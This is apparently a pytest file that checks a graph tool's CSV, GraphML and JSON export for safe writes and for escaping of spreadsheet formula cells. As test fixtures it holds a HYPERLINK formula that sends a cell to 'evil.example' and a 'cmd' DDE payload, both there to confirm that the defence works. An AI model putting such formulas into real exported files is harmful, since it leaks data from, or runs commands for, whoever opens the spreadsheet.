"""Nothing an analyst writes destroys data: ``actorgraph export`` refuses the store's own folder,
replaces a file only once the new one is whole, reports a failing write in one line, and
escapes CSV cells a spreadsheet would run (so does ``actorgraph query --format csv``)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from fixture_graph import realistic_graph, write_graph

from actorgraph.dashboard.export import ExportError, export_view
from actorgraph.dashboard.services import Dashboard
from actorgraph.dashboard.state import ViewState
from actorgraph.graph import Actor, Relation, open_store

ACTORGRAPH = str(Path(sys.executable).with_name("actorgraph"))
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_SENTENCE = "+cmd|' /C calc'!A0 said the minister."


def run(*args: str, limit_bytes: int | None = None) -> subprocess.CompletedProcess[str]:
    def limit() -> None:  # in the child only: a file-size limit, as a quota or `ulimit -f` sets
        if limit_bytes is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    env = {k: v for k, v in os.environ.items() if not k.startswith("ACTORGRAPH_")}
    return subprocess.run([ACTORGRAPH, *args], capture_output=True, text=True, env=env, timeout=300, preexec_fn=limit)


def one_line_error(result: subprocess.CompletedProcess[str], *fragments: str) -> str:
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and result.stderr.count("\n") == 1, result.stderr
    for fragment in fragments:
        assert fragment in result.stderr
    return result.stderr


def digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()
    }


@pytest.fixture(scope="module")
def big_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The realistic fixture graph (300 relations, with a formula for a name and a sentence)."""
    folder = tmp_path_factory.mktemp("export") / "store"
    with open_store(folder) as store:
        write_graph(store, realistic_graph())
        store.upsert_actors([Actor(id="trap", name=FORMULA_NAME, kind="person")])
        store.upsert_relations(
            [Relation(id="r-trap", type="WARNS", source_id="trap", target_id="RUS", sentence=FORMULA_SENTENCE)]
        )
    return folder


@pytest.mark.parametrize("inside", ["actorgraph.lbdb", "view.csv", "sub/../actorgraph.lbdb"])
def test_export_into_the_store_folder_is_refused(big_store: Path, inside: str) -> None:
    before = digest(big_store)
    result = run("export", "--store", str(big_store), "-o", str(big_store / inside), "--format", "csv")
    one_line_error(result, "actorgraph: error: cannot write", "inside the store")
    assert digest(big_store) == before
    assert run("stats", "--store", str(big_store)).returncode == 0


def test_export_view_itself_refuses_the_store_folder(embedded_dashboard: Dashboard) -> None:
    folder = Path(embedded_dashboard.store.location)
    before = digest(folder)
    with pytest.raises(ExportError, match="inside the store"):
        export_view(embedded_dashboard, ViewState(), "csv", folder / "actorgraph.lbdb")
    assert digest(folder) == before


def test_export_into_the_store_through_links_is_refused(big_store: Path, tmp_path: Path) -> None:
    (tmp_path / "alias").symlink_to(big_store)
    (tmp_path / "innocent.csv").symlink_to(big_store / "actorgraph.lbdb")
    before = digest(big_store)
    for target in (tmp_path / "alias" / "actorgraph.lbdb", tmp_path / "innocent.csv"):
        one_line_error(run("export", "--store", str(big_store), "-o", str(target), "--format", "csv"), "inside the store")
    assert digest(big_store) == before


def test_a_full_device_is_one_line(big_store: Path) -> None:
    result = run("export", "--store", str(big_store), "-o", "/dev/full", "--format", "csv")
    one_line_error(result, "actorgraph: error: cannot write /dev/full: No space left on device")


@pytest.mark.parametrize("fmt", ["csv", "graphml", "json"])
def test_a_write_cut_short_by_a_file_size_limit_leaves_the_old_file(big_store: Path, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"view.{fmt}"
    assert run("export", "--store", str(big_store), "--focus", "PRK", "-o", str(target)).returncode == 0
    old = target.read_bytes()
    assert len(old) < 12_000
    result = run("export", "--store", str(big_store), "-o", str(target), limit_bytes=12_000)
    one_line_error(result, f"actorgraph: error: cannot write {target}: File too large")
    assert target.read_bytes() == old
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]  # no temporary file left behind


def test_export_csv_escapes_formula_cells(big_store: Path, tmp_path: Path) -> None:
    target = tmp_path / "view.csv"
    assert run("export", "--store", str(big_store), "--actor", "trap", "-o", str(target)).returncode == 0
    with target.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["source_name"] == "'" + FORMULA_NAME and row["sentence"] == "'" + FORMULA_SENTENCE
    assert row["goldstein"] == "" and row["target_name"] == "Russia"


def test_query_csv_escapes_formula_cells(big_store: Path) -> None:
    cypher = "MATCH (a:Actor {id: 'trap'}) RETURN a.name AS `=1+2`, -4.5 AS n, '-4.5' AS s, '@SUM(A1)' AS f"
    result = run("query", cypher, "--store", str(big_store), "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert list(csv.reader(io.StringIO(result.stdout))) == [
        ["'=1+2", "n", "s", "f"],
        ["'" + FORMULA_NAME, "-4.5", "-4.5", "'@SUM(A1)"],
    ]
